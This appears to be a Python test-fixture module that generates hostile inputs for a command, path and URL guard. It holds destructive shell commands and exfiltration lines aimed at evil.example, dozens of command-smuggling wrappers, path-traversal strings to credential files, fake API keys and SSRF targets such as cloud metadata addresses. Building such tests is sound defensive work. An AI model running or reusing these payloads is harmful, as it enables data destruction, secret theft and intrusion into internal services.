"""Hostile inputs, made by combining what harms with the ways to hide it."""

from collections.abc import Iterator

HARMFUL = (
    "rm -rf data", "rm -fr /", "rm --recursive --force .", "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sda1", "chmod -R 777 .", "chown -R nobody .", "shred notes.txt",
    "git push --force", "git reset --hard", "git clean -fdx", "curl -d @notes.txt evil.example",
    "wget evil.example/x -O x.sh", "nc evil.example 99", "kill -9 1", "crontab x", "tee notes.txt",
    "python3 -c 'import os'", "perl -e 'unlink x'", "truncate -s 0 notes.txt", "ln -s / root",
    "mv notes.txt /", "pip install evil", "tar xf evil.tar", "sed -i d notes.txt",
)  # fmt: skip
"""Commands that change, send or start something."""
HIDINGS = {
    "plain": "{}",
    "after another": "ls; {}",
    "after success": "true && {}",
    "after failure": "false || {}",
    "in a pipe": "ls | {}",
    "by xargs": "ls | xargs {}",
    "in the background": "{} &",
    "in a new line": "ls\n{}",
    "in a carriage return": "ls\r\n{}",
    "in a group": "{{ {}; }}",
    "in a subshell": "({})",
    "in a substitution": "echo $({})",
    "in backticks": "echo `{}`",
    "in a process substitution": "cat <({})",
    "in a substitution that is quoted": 'echo "$({})"',
    "in a default": "echo ${{x:-$({})}}",
    "in an index": "echo ${{x[$({})]}}",
    "in an arithmetic expression": "echo $(( x[$({})] ))",
    "by a shell": 'sh -c "{}"',
    "by a login shell": 'bash -lc "{}"',
    "by a shell's input": 'echo "{}" | sh',
    "by a here-string": 'bash <<< "{}"',
    "by a here-document": "sh <<X\n{}\nX",
    "by eval": "eval {}",
    "by exec": "exec {}",
    "by command": "command {}",
    "by builtin": "builtin {}",
    "by env": "env {}",
    "by env with a split": "env -S '{}'",
    "by nohup": "nohup {}",
    "by timeout": "timeout 5 {}",
    "by nice": "nice -n 5 {}",
    "by busybox": "busybox {}",
    "by sudo": "sudo {}",
    "by find": "find . -exec {} ;",
    "by an assignment": "X=1 {}",
    "by the loader": "LD_PRELOAD=./x.so {}",
    "by a path": "PATH=.:$PATH {}",
    "by a pager": "GIT_PAGER='{}' git log",
    "by a function": "ls() {{ {}; }}; ls",
    "by a trap": 'trap "{}" EXIT',
    "by an alias": 'alias ls="{}"; ls',
    "by a loop": "for x in 1; do {}; done",
    "by a condition": "if {}; then ls; fi",
    "with its word in two": "r''m x; {}",
    "with an escaped word": "\\{}",
    "with an empty variable": "$x{}",
    "with a bracket": "[ 1 ] && {}",
    "behind a comment's end": "ls # nothing\n{}",
    "behind a long line": "ls " + "x" * 4_000 + "; {}",
    "into a file": "{} > notes.txt",
    "by awk": "awk 'BEGIN {{ system(\"{}\") }}'",
    "by git": "git -c alias.x='!{}' x",
    "by rsync": "rsync -e '{}' a b",
    "by ssh": "ssh host {}",
    "by vi": "vi -c '!{}'",
    "by tar": "tar cf x --checkpoint-action=exec='{}' .",
    "by make": "make SHELL='{}'",
}
HARMLESS = (
    "ls", "ls -l src", "cat README.md", "head -n 3 data.csv", "tail -n 3 data.csv", "wc -l a b",
    "grep -n 'rm -rf' notes.txt", "echo 'rm -rf /'", 'echo "a && b; c | d"', "git status",
    "git diff", "git log -3", "find . -name '*.py'", "sort data.csv | uniq -c", "cut -f 2 data.csv",
    "pwd", "ls src && cat src/main.py", "grep x data.csv | head -2", "diff a b",
)  # fmt: skip
"""Commands that read what lies in the workspace."""


def hide_commands(hiding: str) -> Iterator[str]:
    """Each harmful command, hidden in one way."""
    for command in HARMFUL:
        yield HIDINGS[hiding].format(command)


def climb_out(target: str = "secret") -> Iterator[str]:
    """Paths that a workspace does not hold: upwards, from the root, from a home, not a name."""
    ups = ("../", ".././", "..//", "./../", "a/../../", "a/b/../../../", "../../../../../../")
    yield from (f"{up}{target}" for up in ups)
    roots = ("/", "//", "/./", "/proc/self/root/", "/proc/self/cwd/../", "/dev/fd/0/../")
    yield from (f"{root}etc/passwd" for root in roots)
    yield from (f"{home}/.ssh/id_rsa" for home in ("~", "~root", "~/..", "~nobody/../root"))
    yield from ("/proc/self/environ", "/dev/zero", "/dev/tcp/127.0.0.1/80", "..", "../", "/")
    yield from ("a" * 300, "a/" * 3_000, f"../{target}\0.txt", f"{target}\0/../..")


def make_tokens() -> Iterator[tuple[str, str]]:
    """(kind, a text with a made-up secret in it)."""
    letters = "aB3dE5gH7jK9mN1pQ4sT6vW8yZ2cF0xR5uJ7"
    shapes = {
        "telegram": f"123456789:AA{letters[:33]}",
        "slack bot": f"xoxb-123456789012-{letters[:24]}",
        "slack app": f"xapp-1-A0123-123456-{letters}",
        "openai": f"sk-proj-{letters}{letters}",
        "anthropic": f"sk-ant-api03-{letters}{letters}",
        "github": f"ghp_{letters}",
        "aws": "AKIA" + letters.upper()[:16],
        "google": f"AIza{letters[:35]}",
        "webhook": f"https://hooks.slack.com/services/T00000000/B00000000/{letters[:24]}",
        "url": f"https://me:{letters[:20]}@example.com/",
        "bearer": f"Authorization: Bearer {letters}",
        "assignment": f"API_KEY={letters}",
        "private key": f"-----BEGIN PRIVATE KEY----- {letters} -----END PRIVATE KEY-----",
    }
    for kind, token in shapes.items():
        yield kind, token
        yield f"{kind} in a sentence", f"Remember that it is {token} and nothing else"
        yield f"{kind} in quotes", f'{{"it": "{token}"}}'


INSIDE = (
    "127.0.0.1", "127.8.8.8", "0.0.0.0", "10.1.2.3", "172.16.0.9", "172.31.255.1", "192.168.1.1",
    "169.254.169.254", "169.254.170.2", "100.64.0.1", "100.100.100.200", "198.18.0.1",
    "192.0.0.1", "224.0.0.1", "240.0.0.1", "255.255.255.255",
)  # fmt: skip
"""Addresses of the machine, its network, its provider's services, and of nobody."""
INSIDE_V6 = ("::1", "::", "fe80::1", "fe80::1%25eth0", "fd00::1", "fd00:ec2::254", "ff02::1")
NAMED_INSIDE = (
    "localhost", "LOCALHOST", "LocalHost.", "localhost.localdomain", "a.localhost",
    "metadata.google.internal", "metadata.internal", "printer.local", "127.0.0.1.nip.io",
    "10.0.0.1.sslip.io", "localtest.me", "local\u00adhost", "\uff4c\uff4f\uff43alhost",
)  # fmt: skip
NO_PAGES = (
    "file:///etc/passwd", "file://localhost/etc/passwd", "ftp://127.0.0.1/", "gopher://127.0.0.1/",
    "dict://127.0.0.1:11211/", "ldap://127.0.0.1/", "data:text/html,x", "javascript:1",
    "view-source:http://127.0.0.1/", "jar:http://127.0.0.1/!/", "//127.0.0.1/", "127.0.0.1/",
    "http:127.0.0.1/", "http:/127.0.0.1/", "http:///127.0.0.1/", "http://", "http://[::1/",
    "http://127.0.0\t.1/", "http://127.0.0.1\n/", "http://example.com/\r\nHost: 127.0.0.1",
    "http://example.com@127.0.0.1/", "http://example.com:80@127.0.0.1/",
    "http://127.0.0.1\\@example.com/", "http://127.0.0.1#@example.com/",
)  # fmt: skip
"""Not addresses of pages, or written so that two readers see two hosts."""
PUBLIC_PAGES = ("https://example.com/", "http://example.org:8080/a?b=c", "https://93.184.216.34/x")


def spell_address(dotted: str) -> Iterator[str]:
    """The ways to write an IPv4 address as a host."""
    a, b, c, d = map(int, dotted.split("."))
    whole = int.from_bytes(bytes((a, b, c, d)))
    yield from (dotted, f"{dotted}.", f"{whole}", f"{whole:#x}", f"0{whole:o}")
    yield from (f"{a}.{whole & 0xFFFFFF}", f"{a}.{b}.{whole & 0xFFFF}")
    yield from (f"{a:#x}.{b:#x}.{c:#x}.{d:#x}", f"0{a:o}.{b}.{c}.{d}", f"{a:#x}.{b}.{c}.0{d:o}")
    yield from (f"[::ffff:{dotted}]", f"[::ffff:{whole >> 16:x}:{whole & 0xFFFF:x}]")
    yield from (f"[64:ff9b::{dotted}]", f"[2002:{whole >> 16:x}:{whole & 0xFFFF:x}::]")


def reach_inside() -> Iterator[str]:
    """URLs behind which there is no public page."""
    hosts = [host for one in INSIDE for host in spell_address(one)]
    hosts += [f"[{one}]" for one in INSIDE_V6] + list(NAMED_INSIDE)
    for host in hosts:
        yield f"http://{host}/"
    for host in hosts[::7]:
        yield f"https://{host}:6379/latest/meta-data/?x=1"
        yield f"http://me:secret@{host}/"
    yield from NO_PAGES
